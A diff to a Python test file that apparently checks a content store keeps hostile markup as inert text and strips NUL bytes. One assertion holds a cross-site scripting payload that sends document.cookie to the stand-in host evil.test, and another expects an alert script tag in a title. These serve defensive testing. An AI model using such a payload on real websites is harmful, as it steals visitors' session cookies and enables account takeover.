@@ -194,7 +194,8 @@ def test_markup_is_stored_as_text_and_nul_bytes_are_stripped(hostile: HostileRun
     by_url = {url: (title, text, author) for url, title, text, author in rows}
     title, text, author = by_url[f"{F}/hostile/script"]
     assert "<script>document.location='http://evil.test/'+document.cookie</script>" in text
-    assert "alert(" not in title and "javascript" not in author.lower()
+    # the headline shows the characters (escaped in the HTML): text stays text, outputs escape
+    assert "<script>alert(1)</script>" in title and "javascript" not in author.lower()
     title, text, author = by_url[f"{F}/hostile/nul"]
     assert title == "Queen of Tears behind the scenes[31m in red"
     assert text.startswith("Kim Ji-won and the crew rang a bell.")
